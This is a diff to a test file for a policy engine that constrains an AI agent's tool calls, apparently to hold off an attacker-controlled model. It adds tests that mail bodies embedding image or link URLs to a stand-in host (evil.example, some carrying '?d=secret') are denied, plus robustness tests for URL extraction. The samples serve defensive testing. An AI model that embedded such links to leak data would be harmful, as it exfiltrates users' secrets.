@@ -2,7 +2,9 @@
  * Attacks on the argument-level controls by an agent whose model the attacker controls: each test fails if the
  * engine lets the attack through. The attempts that held without a change are listed in docs/provenance.md.
  */
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { looseUrls } from '../../src/core/controls.ts';
 import { decide } from '../../src/core/decide.ts';
 import type { PolicyDocument } from '../../src/core/document.ts';
 import { LEG_A, LEG_B } from '../../src/core/legs.ts';
@@ -21,6 +23,7 @@ const document: PolicyDocument = {
     send_money: { call: 'BC', when: [{ match: { iban: { in: 'payees' } }, call: 'B' }] },
     post: { call: 'C', args: { text: { sensitive: 'deny' }, '*': { untrusted: 'ask' } } },
     share_file: { call: 'C', args: { file_id: { reference: true } } },
+    send_mail: { call: 'C', args: { body: { url: { embedded: true, allow: ['*.company.example'] } } } },
   },
 };
 const policy = compilePolicy(document);
@@ -121,5 +124,76 @@ describe('references', () => {
     expect(legs([{ id: 'F-payroll' }])).toBe('BC');
     expect(legs('')).toBe('C');
     expect(legs([])).toBe('C');
+  });
+});
+
+describe('embedded URLs', () => {
+  it('checks every form of URL a renderer fetches, not only `scheme://`', () => {
+    const body = (link: string) => check('send_mail', { body: `Report attached. ![chart](${link})` }, seen(), 0);
+    expect(body('https://files.company.example/chart.png').effect).toBe('allow');
+    for (const link of [
+      '//evil.example/p.png?d=secret',
+      ' ///evil.example/p.png',
+      '\\\\evil.example/p.png',
+      '/\\evil.example/p.png',
+      'https:/evil.example/p.png',
+      'https:\\\\evil.example/p.png',
+      'HTTP:evil.example/p.png',
+      'wss:/evil.example/socket',
+    ]) {
+      const decision = body(link);
+      expect(decision.effect, link).toBe('deny');
+      expect(decision.reasons[0]?.message, link).toContain('`evil.example`');
+    }
+    for (const text of [
+      '<img src="//evil.example/p.png">',
+      '<img src=//evil.example/p.png>',
+      '[logo]: //evil.example/p.png',
+      '<img srcset="a.png 1x, //evil.example/p.png 2x">',
+    ]) {
+      expect(check('send_mail', { body: text }, seen(), 0).effect, text).toBe('deny');
+    }
+    // Ordinary text with slashes, colons and code comments holds no URL.
+    expect(looseUrls('and/or 12/05, note: see c:\\temp // a comment; x//y, http: (no link)')).toEqual([]);
+  });
+});
+
+describe('loose URLs', () => {
+  // The definitions looseUrls implements by hand with native searches.
+  const strip = (url: string) => url.replace(/[.,;:!?]+$/, '');
+  const reference = (text: string) => [
+    ...[...text.matchAll(/(?<![a-z0-9+.-])(?:https?|wss?|ftp|file):(?!\/\/)[^\s"'<>)\]]+/gi)]
+      .map((m) => strip(m[0]))
+      .filter((url) => !url.endsWith(':') && url.includes(':')),
+    ...[...text.matchAll(/(?<=^|[\s("'=<[])[/\\]{2,}[^\s"'<>)\]]+/g)]
+      .map((m) => strip(m[0]))
+      .filter((url) => /[/\\]{2,}[^/\\]/.test(url)),
+  ];
+
+  it('finds what the regular expressions find, on any text', () => {
+    const unit = fc.constantFrom(
+      ...'aZ9+.-:/\\ "\'<>)](=x?!,;\n\u00a0é'.split(''),
+      'http',
+      'HTTPS',
+      'file',
+      'wss',
+      '//',
+      'a'.repeat(40),
+    );
+    fc.assert(
+      fc.property(fc.string({ unit, maxLength: 60 }), (text) => {
+        expect(looseUrls(text)).toEqual(reference(text));
+      }),
+      { numRuns: 3000 },
+    );
+  });
+
+  it('runs in linear time on hostile input', () => {
+    const started = performance.now();
+    expect(looseUrls(`${'a'.repeat(200_000)}:x`)).toEqual([]);
+    expect(looseUrls(`${'/'.repeat(200_000)}x`)).toEqual([`${'/'.repeat(200_000)}x`]);
+    expect(looseUrls(`${'x/'.repeat(100_000)}`)).toEqual([]);
+    expect(looseUrls(`${'https:'.repeat(50_000)}`)).toHaveLength(1);
+    expect(performance.now() - started).toBeLessThan(2000);
   });
 });
